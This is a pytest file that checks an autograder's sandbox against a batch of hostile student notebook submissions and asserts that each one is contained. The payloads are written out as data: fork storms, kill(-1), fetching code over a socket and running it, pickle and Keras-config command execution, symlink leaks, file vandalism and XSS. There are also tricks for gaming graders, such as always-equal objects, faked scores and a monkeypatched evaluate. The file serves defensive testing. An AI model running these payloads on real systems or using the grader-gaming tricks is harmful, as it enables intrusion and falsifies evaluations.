"""Submissions that attack the grader, graded in one batch with the sandbox on.

Each student below answers exercises 1 and 2 right (5 points) and attacks in exercise 3 (or in
the files of the submission). The sandbox must stop the attack, give the right status and
score with a clear message, and leave the rest of the batch, the gradebook, the source and the
other students' files as they were. ``control`` is an honest student graded in the same batch.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import threading
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest

from autograder.sandbox import UID_BASE, UID_COUNT, probe

from .conftest import autograder, child_env, gradebook_rows, results_of

EXACTITUD = "def exactitud(y, probs):\n    return float(np.mean(np.argmax(probs, axis=1) == np.asarray(y)))"
WRONG = "def exactitud(y, probs):\n    return 0.25"
NO_MODEL = "pass  # sin modelo"

ATTACKS = {
    "hang": """import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(0.2)""",
    "memory": """bloques = []
while True:
    bloques.append(b"x" * 50_000_000)""",
    "storm": f"""import os, time
hijos = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        hijos += 1
except OSError as exc:
    print("no se pueden crear más procesos tras", hijos, exc)
{EXACTITUD}""",
    "killall": """import os, signal
os.kill(-1, signal.SIGKILL)  # como root y sin sandbox, esto mataría la máquina entera""",
    "network": """import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as s:
        exec(s.recv(4096).decode())  # la solución, servida desde fuera
except OSError as exc:
    print("sin red:", exc)
    def exactitud(y, probs):
        return 0.25""",
    "snoop": """import glob, os, re
encontrado = None
candidatos = [f"{CURSO}/source/demo/mlp_demo.ipynb", f"{CURSO}/gradebook.db",
              *glob.glob(f"{CURSO}/.autograder-tmp/*/gradebook.db"), *glob.glob("/**/mlp_demo.ipynb", recursive=True)]
for ruta in candidatos:
    try:
        texto = open(ruta, "rb").read().decode("utf-8", "replace")
    except OSError:
        continue
    if "BEGIN SOLUTION" in texto:
        encontrado = ruta
        break
print("fuente encontrada:", encontrado)
if encontrado:
    exec("def exactitud(y, probs):\\n    return float(np.mean(np.argmax(probs, axis=1) == np.asarray(y)))")
else:
    def exactitud(y, probs):
        return 0.25""",
    "vandal": """import os
for ruta in [f"{CURSO}/gradebook.db", f"{CURSO}/submitted/control/demo/mlp_demo.ipynb",
             f"{CURSO}/results/demo/control.json", f"{CURSO}/source/demo/mlp_demo.ipynb", "../../control/demo/nota.txt"]:
    try:
        with open(ruta, "w") as fh:
            fh.write("borrado")
        print("escrito", ruta)
    except OSError as exc:
        print("no se pudo escribir", ruta, type(exc).__name__)
def exactitud(y, probs):
    return 0.25""",
    "symlinks": """import os
texto = ""
for ruta in ["pistas.ipynb", "curso/source/demo/mlp_demo.ipynb"]:
    try:
        texto += open(ruta).read()
    except OSError as exc:
        print("no se pudo leer", ruta, type(exc).__name__)
os.symlink(f"{CURSO}/gradebook.db", "fuga.db")  # para que el corrector lo copie
if "BEGIN SOLUTION" in texto:
    exec("def exactitud(y, probs):\\n    return float(np.mean(np.argmax(probs, axis=1) == np.asarray(y)))")
else:
    def exactitud(y, probs):
        return 0.25""",
    "hidden_errors": """from IPython.core.interactiveshell import InteractiveShell
for objeto in (get_ipython(), InteractiveShell, type(get_ipython())):
    objeto.showtraceback = lambda *args, **kwargs: None
    objeto._showtraceback = lambda *args, **kwargs: None
def exactitud(y, probs):
    return 0.25""",
    "always_equal": """class Siempre(float):
    def __eq__(self, otro):
        return True
    def __ne__(self, otro):
        return False
    __hash__ = float.__hash__
def exactitud(y, probs):
    return Siempre(0.25)""",
    "fake_score": """import sys
print("Puntuación: 13/13")
def exactitud(y, probs):
    sys.displayhook(2.0)  # un resultado numérico antes de que falle la prueba
    return 0.25""",
    "huge_output": f"""for _ in range(300):
    print("x" * 100_000)
{EXACTITUD}""",
    "disk": """import os
try:
    with open("grande.bin", "wb") as fh:
        fh.write(b"0" * 30 * 2**20)  # más que --max-file-mb
except OSError as exc:
    print("archivo demasiado grande:", exc)
i = 0
while True:
    with open(f"relleno{i}.bin", "wb") as fh:
        fh.write(b"0" * 5 * 2**20)
    i += 1""",
}

# Attacks on the threshold checks: the model files the grader loads after the kernel ended.
MODEL_ATTACKS = {
    # 2 kB on disk, 12 GB of weights once built: the evaluator's own memory limit stops it.
    "keras_bomb": """import zipfile, keras
keras.Sequential([keras.Input(shape=(784,)), keras.layers.Dense(8)]).save("base.keras")
with zipfile.ZipFile("base.keras") as z:
    partes = {n: z.read(n) for n in z.namelist()}
partes["config.json"] = partes["config.json"].replace(b'"units": 8', b'"units": 4000000')
with zipfile.ZipFile("modelo_final.keras", "w") as z:
    for nombre, datos in partes.items():
        z.writestr(nombre, datos)""",
    # Library functions named in the config, meant to write files when the model loads.
    "keras_config": """import json, zipfile, keras
keras.Sequential([keras.Input(shape=(784,)), keras.layers.Dense(10)]).save("base.keras")
with zipfile.ZipFile("base.keras") as z:
    partes = {n: z.read(n) for n in z.namelist()}
config = json.loads(partes["config.json"])
capa = config["config"]["layers"][-1]["config"]
capa["activation"] = {"module": "keras.utils", "class_name": "function", "config": "get_file",
                      "registered_name": None}
capa["kernel_initializer"] = {"module": "os", "class_name": "system", "config": {"command": "touch {CURSO}/pwned"},
                              "registered_name": None}
partes["config.json"] = json.dumps(config).encode()
with zipfile.ZipFile("modelo_final.keras", "w") as z:
    for nombre, datos in partes.items():
        z.writestr(nombre, datos)""",
    # A 23-byte change to the PyTorch model's config: 14 GB of weights.
    "torch_bomb": """import json
from course.models import MLPConfig
from course.torch import build_mlp, save_model
config = MLPConfig(hidden=(8,))
save_model(build_mlp(config), "modelo_torch.pt")
datos = json.load(open("modelo_torch.json"))
datos["hidden"] = [60000, 60000]
json.dump(datos, open("modelo_torch.json", "w"))""",
    # A pickle that runs a command when loaded.
    "torch_pickle": """import os, pickle
from course.models import MLPConfig
class Ataque:
    def __reduce__(self):
        return (os.system, ("touch {CURSO}/pwned",))
pickle.dump(Ataque(), open("modelo_torch.pt", "wb"))
open("modelo_torch.json", "w").write(MLPConfig(hidden=(8,)).to_json())""",
    # Links left for the grader to follow: the gradebook, the Python environment, and a PyTorch
    # model behind a Keras name (the wrong loader).
    "model_links": """import os, sys, sysconfig
from course.models import MLPConfig
from course.torch import build_mlp, save_model
config = MLPConfig(hidden=(8,))
save_model(build_mlp(config), "otro.pt")
os.symlink("otro.pt", "modelo_final.keras")
os.symlink("{CURSO}/gradebook.db", "modelo_torch.pt")
os.symlink(sysconfig.get_paths()["purelib"], "entorno")
os.symlink("{CURSO}/gradebook.db", "fuga.db")""",
    # Not plain files: a FIFO that would hang a reader, a hard link, a folder.
    "model_special": """import os
from course.models import MLPConfig
from course.torch import build_mlp, save_model
os.mkfifo("modelo_final.keras")
config = MLPConfig(hidden=(8,))
save_model(build_mlp(config), "real.pt")
os.link("real.pt", "modelo_torch.pt")
os.link("real.json", "modelo_torch.json")
os.mkdir("carpeta.keras")""",
}

# Answers that call the kit's own relu, which the demo forbids ([demo] forbid in thresholds.toml):
# under another name, through the kit's table, and from the kit's original files found on disk.
KIT_ANSWERS = {
    "kit_alias": "from course.scratch import relu as mi_relu\nrelu = mi_relu",
    "kit_table": "import course\n\ndef relu(x):\n    return course.scratch.get_activation('relu')[0](x)",
    "kit_original": """import glob, importlib, importlib.metadata, json, os, sys
import course.scratch.activations as act
importlib.reload(act)  # the copy has no code to reload
candidatos = []
try:
    dist = importlib.metadata.distribution("dl-course-kit")
    candidatos += [str(dist.locate_file(f)) for f in dist.files or [] if str(f).endswith("scratch/activations.py")]
    url = json.loads(dist.read_text("direct_url.json") or "{}").get("url", "")
    candidatos.append(url.removeprefix("file://") + "/course/scratch/activations.py")
except Exception as exc:
    print("metadata:", exc)
for base in [*sys.path, "/work", "/root", "/home", "/srv", "/opt", "/tmp"]:
    candidatos += glob.glob(os.path.join(base, "*", "course", "scratch", "activations.py"))
    candidatos += glob.glob(os.path.join(base, "course", "scratch", "activations.py"))
relu = act.relu
for ruta in candidatos:
    try:
        texto = open(ruta).read()
    except OSError:
        continue
    if "def relu" in texto and "not_allowed" not in texto:
        espacio = {}
        exec(compile(texto, ruta, "exec"), espacio)
        relu = espacio["relu"]
        print("encontrada en", ruta)
        break""",
}

# Trains on the validation images the grader measures: a high score there, far less on the test
# images. Flagged for the instructor; the score stays what the grader measured.
LEAK_MODEL = """import keras
keras.utils.set_random_seed(0)
modelo = keras.Sequential([keras.Input(shape=(784,)), keras.layers.Dense(128, activation="relu"),
                           keras.layers.Dense(10, activation="softmax")])
modelo.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
modelo.fit(X_valid, y_valid, epochs=15, batch_size=128, verbose=0)  # unos 8 s
modelo.save("modelo_final.keras")"""

# An honest answer that writes where a program may: /tmp, the home folder, matplotlib's cache.
TMP_WRITER = f"""import os, tempfile
import matplotlib.pyplot as plt
with tempfile.NamedTemporaryFile("w", suffix=".txt", delete=False) as fh:
    fh.write("borrador")
plt.figure(); plt.plot([0, 1], [1, 0]); plt.title("curva"); plt.savefig(os.path.join(tempfile.gettempdir(), "curva.png"))
plt.close("all")
open(os.path.expanduser("~/.notas"), "w").write("x")
{EXACTITUD}"""

XSS_ANSWER = "<script>alert('respuesta')</script><img src=x onerror=\"alert('img')\"> Mi respuesta."
XSS_CODE = """from IPython.display import HTML, display
display(HTML("<script>alert('salida')</script><b onmouseover=\\"alert('b')\\">hola</b>"))
def exactitud(y, probs):
    raise ValueError("<script>alert('error')</script>")"""

TORCH_CHECK = """
[demo.modelo_torch]
model = "modelo_torch.pt"
dataset = "fashion_mnist"
validation = 5000
full = 0.9
zero = 0.5
points = 1
"""

FAKE_EVALUATION = """import json, keras
modelo = keras.Sequential([keras.Input(shape=(784,)), keras.layers.Dense(10, activation="softmax")])
modelo.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
keras.Model.evaluate = lambda self, *args, **kwargs: [0.01, 0.99]
print("Exactitud de validación:", modelo.evaluate(X_valid, y_valid)[1])
json.dump({"accuracy": 0.99}, open("metricas.json", "w"))
modelo.save("modelo_final.keras")"""

SHIPPED = {  # files of a submission that try to stand in for the grader's
    "thresholds.toml": "[demo.modelo_final]\nmodel = 'modelo_final.keras'\nfull = 0.0\nzero = -1.0\npoints = 4\n",
    "autograder/__init__.py": "",
    "autograder/evaluate.py": "print('{\"value\": 0.99, \"n\": 5000}')\n",
    "course/__init__.py": "raise SystemExit('un paquete course falso')\n",
    "fashion-mnist/t10k-labels-idx1-ubyte.gz": "no son datos",
}


def _digest(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        digest.update(str(path.relative_to(folder)).encode() + path.read_bytes())
    return digest.hexdigest()


def _site_files() -> dict[str, int]:
    """The grader's site-packages, top level: a planted ``.pth`` or module would show here."""
    import sysconfig

    folder = Path(sysconfig.get_paths()["purelib"])
    return {p.name: p.stat().st_mtime_ns for p in folder.iterdir()}


def _serve_solution() -> tuple[socket.socket, int]:
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)

    def loop() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            with conn:
                conn.sendall(EXACTITUD.encode())

    threading.Thread(target=loop, daemon=True).start()
    return server, server.getsockname()[1]


def _sandbox_processes() -> list[int]:
    pids = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                uid = os.stat(f"/proc/{entry}").st_uid
            except OSError:
                continue
            if UID_BASE <= uid < UID_BASE + UID_COUNT:
                pids.append(int(entry))
    return pids


def grade_attacks(tmp_path_factory, session_cache):
    """The batch below, graded once per session: conftest's ``attacked`` fixture (the report's tests read it too)."""
    reason = probe()
    if reason is not None:
        if os.environ.get("CI"):
            pytest.fail(f"the sandbox must run in CI: {reason}")
        pytest.skip(f"no sandbox here: {reason}")
    from autograder.demo import ASSIGNMENT, NOTEBOOK, build_course, fill, submissions

    root = build_course(tmp_path_factory.mktemp("adversarial") / "course")
    for folder in (root / "submitted").iterdir():
        for path in sorted(folder.rglob("*"), reverse=True):
            path.unlink() if path.is_file() else path.rmdir()
        folder.rmdir()
    released = nbformat.read(root / "release" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
    source_nb = nbformat.read(root / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
    right = submissions(source_nb)["reference"]
    base = {"relu": right["relu"], "softmax": right["softmax"], "modelo": NO_MODEL}
    server, port = _serve_solution()
    assert socket.create_connection(("127.0.0.1", port)).recv(100)  # reachable from outside the sandbox

    def submit(student: str, answers: dict[str, str], nb: nbformat.NotebookNode | None = None) -> Path:
        folder = root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(nb or fill(released, {**base, **answers}), folder / f"{NOTEBOOK}.ipynb")
        return folder

    with open(root / "thresholds.toml", "a") as fh:  # a PyTorch check too, for the PyTorch loader
        fh.write(TORCH_CHECK)
    submit("control", {"exactitud": EXACTITUD})
    for student, code in ATTACKS.items():
        submit(student, {"exactitud": code.replace("PORT", str(port)).replace("{CURSO}", str(root))})
    for student, code in MODEL_ATTACKS.items():
        submit(student, {"exactitud": EXACTITUD, "modelo": code.replace("{CURSO}", str(root))})
    submit("tmp_writer", {"exactitud": TMP_WRITER})
    for student, code in KIT_ANSWERS.items():
        submit(student, {"relu": code, "exactitud": EXACTITUD})
    submit("leak", {"exactitud": EXACTITUD, "modelo": LEAK_MODEL})
    submit("xss", {"exactitud": XSS_CODE, "respuesta_softmax": XSS_ANSWER})
    huge = fill(released, {**base, "exactitud": EXACTITUD})
    huge.cells.append(nbformat.v4.new_markdown_cell("x" * 17 * 2**20))
    submit("huge_notebook", {}, nb=huge)
    many = fill(released, {**base, "exactitud": EXACTITUD})
    many.cells += [nbformat.v4.new_code_cell("1") for _ in range(2500)]
    submit("many_cells", {}, nb=many)
    crowded = submit("many_files", {"exactitud": EXACTITUD}) / "datos"
    crowded.mkdir()
    for i in range(100_000):
        (crowded / f"{i}.txt").touch()
    links = root / "submitted" / "symlinks" / ASSIGNMENT
    (links / "pistas.ipynb").symlink_to(root / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
    (links / "curso").symlink_to(root)
    stolen = root / "submitted" / "stolen" / ASSIGNMENT
    stolen.mkdir(parents=True)
    (stolen / f"{NOTEBOOK}.ipynb").symlink_to(root / "submitted" / "control" / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
    shipped = submit("fake_evaluation", {"exactitud": EXACTITUD, "modelo": FAKE_EVALUATION})
    for name, text in SHIPPED.items():
        (shipped / name).parent.mkdir(parents=True, exist_ok=True)
        (shipped / name).write_text(text)
    submit("malformed", {}, nb=None).joinpath(f"{NOTEBOOK}.ipynb").write_text('{"cells": [ no es json')
    renamed = submit("renamed", {"exactitud": EXACTITUD})
    (renamed / f"{NOTEBOOK}.ipynb").rename(renamed / f"{NOTEBOOK}_final.ipynb")
    tampered = fill(released, {**base, "exactitud": WRONG})
    tampered.cells = [c for c in tampered.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "tests_relu"]
    for cell in tampered.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "tests_exactitud":
            cell.source = "pass  # la prueba «arreglada»"
    submit("tampered", {}, nb=tampered)

    before = {"source": _digest(root / "source"), "control": _digest(root / "submitted" / "control"),
              "site": _site_files()}
    env = child_env(session_cache)
    done = autograder("grade", ASSIGNMENT, "--course-dir", str(root), "--workers", "2", "--timeout", "90",
                      "--cell-timeout", "40", "--memory", "1.5", "--max-output-mb", "1", "--max-disk-mb", "50",
                      "--max-file-mb", "20", "--max-processes", "256", "--sandbox", "bwrap", "--no-progress",
                      env=env, timeout=900)
    server.close()
    assert done.returncode == 0, done.stdout + done.stderr
    return SimpleNamespace(root=root, out=done, before=before, results=results_of(root, ASSIGNMENT),
                           leftovers=_sandbox_processes(), assignment=ASSIGNMENT, notebook=NOTEBOOK,
                           site=_site_files())


def points(result: dict, name: str) -> float | None:
    return next(c["points"] for c in result["checks"] if c["name"] == name)


EXPECTED = {  # student: (status, score out of 11, words the message must hold)
    "control": ("ok", 7, "se ejecutó completa"),
    "hang": ("timeout", 5, "tiempo"),
    "memory": ("memory", 5, "memoria"),
    "storm": ("ok", 7, "se ejecutó completa"),
    "killall": ("ok", 5, "se ejecutó completa"),  # kill(-1) reaches nothing but the sandbox
    "network": ("ok", 5, "se ejecutó completa"),
    "snoop": ("ok", 5, "se ejecutó completa"),
    "vandal": ("ok", 5, "se ejecutó completa"),
    "symlinks": ("ok", 5, "enlaces simbólicos"),
    "stolen": ("invalid", 0, "falta la libreta"),
    "hidden_errors": ("ok", 5, "sin mostrar el error"),
    "always_equal": ("ok", 5, "se ejecutó completa"),
    "fake_score": ("ok", 5, "se ejecutó completa"),
    "huge_output": ("ok", 7, "truncó"),
    "disk": ("disk", 5, "archivos"),
    "fake_evaluation": ("ok", 7, "se ejecutó completa"),
    "malformed": ("invalid", 0, "no es una libreta válida"),
    "renamed": ("invalid", 0, "¿la renombraste?"),
    "tampered": ("tampered", 5, "tests_exactitud (modificada)"),
    "keras_bomb": ("ok", 7, "se ejecutó completa"),
    "keras_config": ("ok", 7, "se ejecutó completa"),
    "torch_bomb": ("ok", 7, "se ejecutó completa"),
    "torch_pickle": ("ok", 7, "se ejecutó completa"),
    "model_links": ("ok", 7, "enlace simbólico"),
    "model_special": ("ok", 7, "archivo especial"),
    "tmp_writer": ("ok", 7, "se ejecutó completa"),
    "xss": ("ok", 5, "se ejecutó completa"),
    "huge_notebook": ("oversize", 0, "pesa"),
    "many_cells": ("oversize", 0, "celdas (máximo 2000)"),
    "many_files": ("oversize", 0, "archivos y carpetas"),
    "kit_alias": ("ok", 5, "se ejecutó completa"),
    "kit_table": ("ok", 5, "se ejecutó completa"),
    "kit_original": ("ok", 5, "se ejecutó completa"),
    "leak": ("ok", 11, "se ejecutó completa"),
}

MODEL_MESSAGES = {  # student: {check: words of its message}
    "keras_bomb": {"modelo_final": "memoria"},
    "keras_config": {"modelo_final": "no se pudo evaluar"},
    "torch_bomb": {"modelo_torch": "memoria"},
    "torch_pickle": {"modelo_torch": "no se pudo evaluar"},
    "model_links": {"modelo_final": "no se encontró", "modelo_torch": "no se encontró"},
    "model_special": {"modelo_final": "no se encontró", "modelo_torch": "no se encontró"},
}


@pytest.mark.parametrize("student", sorted(EXPECTED))
def test_each_attack_gets_its_status_score_and_message(attacked, student):
    status, score, words = EXPECTED[student]
    result = attacked.results[student]
    assert (result["status"], result["score"]) == (status, score), result["message"]
    assert words in result["message"]
    assert result["sandbox"] == ("none" if student == "many_files" else "bwrap")  # refused before a worker ran


def test_a_submission_that_never_ran_counts_each_check_once(attacked):
    maximum = attacked.results["control"]["max_score"]
    for student in ("renamed", "malformed", "stolen"):
        result = attacked.results[student]
        assert result["max_score"] == maximum and sorted(c["name"] for c in result["checks"]) == \
            sorted(c["name"] for c in attacked.results["control"]["checks"]), result["checks"]


def test_every_submission_is_graded_and_reported(attacked):
    assert sorted(attacked.results) == sorted(EXPECTED)
    assert attacked.out.stdout.count("\n") > len(EXPECTED)  # one row each in the summary
    graded = {student for student, *_ in gradebook_rows(attacked.root, attacked.assignment, "demo")}
    assert graded == set(EXPECTED)


def test_the_gradebook_the_source_and_other_students_files_are_intact(attacked):
    rows = gradebook_rows(attacked.root, attacked.assignment, "demo")
    assert rows[("control", attacked.notebook, "tests_exactitud")] == (2.0, False)
    assert _digest(attacked.root / "source") == attacked.before["source"]
    assert _digest(attacked.root / "submitted" / "control") == attacked.before["control"]
    control = json.loads((attacked.root / "results" / attacked.assignment / "control.json").read_text())
    assert control["score"] == 7


def test_no_sandboxed_process_survives_the_batch(attacked):
    assert attacked.leftovers == []


def test_the_threshold_is_measured_by_the_grader_whatever_the_submission_ships(attacked):
    result = attacked.results["fake_evaluation"]
    assert points(result, "modelo_final") == 0
    value = next(c["value"] for c in result["checks"] if c["name"] == "modelo_final")
    assert value < 0.5  # an untrained model, measured on the grader's own data


def test_tampering_is_reported_and_graded_with_the_original_tests(attacked):
    result = attacked.results["tampered"]
    assert "tests_relu (borrada)" in " ".join(result["tampered"])
    assert points(result, "tests_relu") == 2 and points(result, "tests_exactitud") == 0


def test_student_symlinks_are_neither_followed_nor_copied(attacked):
    result = attacked.results["symlinks"]
    assert "pistas.ipynb" in result["message"] and "curso" in result["message"]
    autograded = attacked.root / "autograded" / "symlinks" / attacked.assignment
    assert autograded.is_dir()
    assert not [p for p in autograded.rglob("*") if p.is_symlink()]


def test_a_huge_output_is_cut_to_the_limit(attacked):
    path = attacked.root / "autograded" / "huge_output" / attacked.assignment / f"{attacked.notebook}.ipynb"
    assert path.stat().st_size < 3 * 2**20


@pytest.mark.parametrize("student", sorted(MODEL_MESSAGES))
def test_hostile_model_files_score_nothing_with_a_clear_message(attacked, student):
    result = attacked.results[student]
    for check, words in MODEL_MESSAGES[student].items():
        entry = next(c for c in result["checks"] if c["name"] == check)
        assert entry["points"] == 0 and words in entry["message"], entry["message"]


def test_nothing_outside_the_sandbox_changed(attacked):
    assert not (attacked.root / "pwned").exists()
    assert attacked.site == attacked.before["site"]  # nothing planted in the grader's site-packages
    rows = gradebook_rows(attacked.root, attacked.assignment, "demo")
    assert rows[("control", attacked.notebook, "tests_exactitud")] == (2.0, False)


def test_only_plain_files_reach_autograded_and_feedback(attacked):
    import stat

    for top in ("autograded", "feedback"):
        for path in (attacked.root / top).rglob("*"):
            mode = os.lstat(path).st_mode
            assert stat.S_ISREG(mode) or stat.S_ISDIR(mode), path
    links = attacked.root / "autograded" / "model_links" / attacked.assignment
    assert not (links / "fuga.db").exists() and not (links / "entorno").exists()
    assert "fuga.db (enlace simbólico)" in attacked.results["model_links"]["message"]
    special = attacked.root / "autograded" / "model_special" / attacked.assignment
    assert not (special / "modelo_final.keras").exists() and not (special / "modelo_torch.pt").exists()


def test_an_honest_program_may_write_tmp_and_home_and_leaves_no_scratch_behind(attacked):
    result = attacked.results["tmp_writer"]
    entry = next(c for c in result["checks"] if c["name"] == "tests_exactitud")
    assert entry["points"] == 2, entry["message"]
    folder = attacked.root / "autograded" / "tmp_writer" / attacked.assignment
    assert {p.name for p in folder.iterdir()} - {"timestamp.txt"} == {f"{attacked.notebook}.ipynb"}
    feedback = attacked.root / "feedback" / "tmp_writer" / attacked.assignment
    assert {p.name for p in feedback.iterdir()} - {"timestamp.txt"} == {f"{attacked.notebook}.html"}


def test_feedback_runs_no_script_from_the_student(attacked):
    import re

    page = (attacked.root / "feedback" / "xss" / attacked.assignment / f"{attacked.notebook}.html").read_text()
    head = page[page.lower().index("<head"):][:400]
    assert 'http-equiv="Content-Security-Policy"' in head and "default-src 'none'" in head
    assert "<script>alert" not in page
    assert not re.search(r"<[a-z][^>]*\son(error|mouseover)\s*=", page, re.IGNORECASE)
    assert "Mi respuesta" in page  # the answer is still there, as text


def test_bounds_are_checked_before_the_submission_is_read(attacked):
    for student in ("huge_notebook", "many_cells", "many_files"):
        result = attacked.results[student]
        assert "supera los límites del corrector" in result["message"]
        assert all(c["points"] in (0, None) for c in result["checks"])
        assert not (attacked.root / "feedback" / student).exists()  # no kernel ran: nothing to show
    assert attacked.results["many_files"]["runtime_s"] is None  # refused before a worker started
    assert "más de 5000 archivos y carpetas" in attacked.results["many_files"]["message"]


@pytest.mark.parametrize("student", sorted(KIT_ANSWERS))
def test_an_answer_from_the_kit_scores_nothing_and_says_why(attacked, student):
    result = attacked.results[student]
    assert points(result, "tests_relu") == 0
    assert points(result, "tests_softmax") == 3 and points(result, "tests_exactitud") == 2  # the rest is graded
    assert [u["cell"] for u in result["not_allowed"]] == ["tests_relu"]
    message = next(c["message"] for c in result["checks"] if c["name"] == "tests_relu")
    assert "course.scratch.relu no está disponible" in message and "tu propio código" in message
    page = (attacked.root / "feedback" / student / attacked.assignment / f"{attacked.notebook}.html").read_text()
    assert "Partes del kit que esta tarea no permite usar" in page
    assert not result["flags"]


def test_training_on_the_graders_images_is_flagged_not_penalised(attacked):
    result = attacked.results["leak"]
    assert points(result, "modelo_final") == 4  # the flag never changes the score by itself
    [flag] = result["flags"]
    assert flag["kind"] == "leak" and flag["check"] == "modelo_final"
    assert flag["values"]["valid"] - flag["values"]["test"] > 0.03
    page = (attacked.root / "feedback" / "leak" / attacked.assignment / f"{attacked.notebook}.html").read_text()
    assert "Avisos para el profesorado" in page
    assert "flags to review (scores unchanged): leak;" in attacked.out.stdout
    flagged = {student for student, result in attacked.results.items() if result.get("flags")}
    assert flagged == {"leak"}  # an untrained or a broken model is no leak
